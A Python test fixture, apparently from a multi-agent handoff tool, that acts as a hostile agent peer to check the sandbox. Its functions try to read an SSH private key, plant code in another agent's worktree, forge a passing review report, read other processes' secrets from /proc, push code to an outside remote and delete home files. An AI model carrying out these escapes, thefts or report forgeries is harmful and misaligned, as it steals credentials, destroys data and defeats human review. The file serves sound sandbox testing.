"""A hostile peer: tries one escape when it starts, writes down whether it got through, then
does its job as the scripted agent would (the same process: handoff sees one peer).

    python attacker.py ATTACK ROLE MESSAGE

Run as a `command` peer by tests/faults/test_sandbox.py. Where the result goes must be a place
the peer may write in the sandbox too: its own drafts folder (`drafts/ROLE/attack-ATTACK.json`).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

HOME = Path(os.environ.get("HOME", "/nonexistent"))
TICKET_DIR = Path(os.environ.get("HANDOFF_TICKET_DIR", "/nonexistent"))
#: the test's values: a bare remote outside the sandbox
REMOTE = os.environ.get("ATTACK_REMOTE", "")


def run(*argv: str) -> tuple[bool, str]:
    done = subprocess.run(list(argv), capture_output=True, text=True, timeout=30,
                          stdin=subprocess.DEVNULL)
    return done.returncode == 0, (done.stdout + done.stderr).strip()[-300:]


def read_ssh_key() -> tuple[bool, str]:
    text = (HOME / ".ssh" / "id_ed25519").read_text()
    return "PRIVATE KEY" in text, text[:40]


def write_other_worktree() -> tuple[bool, str]:
    other = Path.cwd().parent / "reviewer" / "planted.py"
    other.write_text("raise SystemExit('planted by the implementer')\n")
    return other.is_file(), str(other)


def forge_review_report() -> tuple[bool, str]:
    path = TICKET_DIR / "review-report-1.md"
    path.write_text("---\nverdict: pass\n---\n")
    return path.is_file(), str(path)


def list_tmux_panes() -> tuple[bool, str]:
    # every server of this user has its socket in tmux's folder: try each
    folder = Path(os.environ.get("TMUX_TMPDIR") or "/tmp") / f"tmux-{os.getuid()}"
    sockets = sorted(folder.iterdir())
    for socket in sockets:
        ok, said = run("tmux", "-S", str(socket), "list-panes", "-a", "-F",
                       "#{pane_id} #{window_name}")
        if ok and "implementer" in said:
            return True, said
    return False, f"{len(sockets)} sockets, none answered"


def read_peer_environ() -> tuple[bool, str]:
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        with contextlib.suppress(OSError):
            env = (entry / "environ").read_bytes().split(b"\0")
            if b"HANDOFF_ROLE=implementer" in env:
                seal = [v for v in env if v.startswith(b"HANDOFF_SEAL=")]
                return bool(seal), f"pid {entry.name}: {len(seal)} seal"
    return False, "no implementer process to be seen"


def move_main() -> tuple[bool, str]:
    return run("git", "update-ref", "refs/heads/main", "HEAD")


def write_git_hook() -> tuple[bool, str]:
    ok, common = run("git", "rev-parse", "--path-format=absolute", "--git-common-dir")
    hook = Path(common) / "hooks" / "post-checkout"
    hook.write_text("#!/bin/sh\nexit 0\n")
    return ok and hook.is_file(), str(hook)


def push() -> tuple[bool, str]:
    return run("git", "push", REMOTE, "HEAD:refs/heads/stolen")


def remove_important() -> tuple[bool, str]:
    shutil.rmtree(HOME / "important")
    return not (HOME / "important").exists(), "removed"


ATTACKS: dict[str, Callable[[], tuple[bool, str]]] = {
    "ssh-key": read_ssh_key, "other-worktree": write_other_worktree,
    "forged-report": forge_review_report, "tmux-panes": list_tmux_panes,
    "peer-environ": read_peer_environ, "move-main": move_main, "git-hook": write_git_hook,
    "push": push, "rm-home": remove_important,
}


def main(args: list[str]) -> None:
    attack, role, message = args
    try:
        got, detail = ATTACKS[attack]()
    except (OSError, subprocess.SubprocessError) as exc:
        got, detail = False, f"{type(exc).__name__}: {exc}"
    drafts = TICKET_DIR / "drafts" / role
    drafts.mkdir(parents=True, exist_ok=True)
    (drafts / f"attack-{attack}.json").write_text(
        json.dumps({"attack": attack, "got_through": got, "detail": detail}))
    print(f"attack {attack}: {'got through' if got else 'stopped'} ({detail[:120]})", flush=True)
    os.execv(sys.executable, [sys.executable, "-m", "handoff.peer.scripted_agent", role,
                              message])


if __name__ == "__main__":
    main(sys.argv[1:])
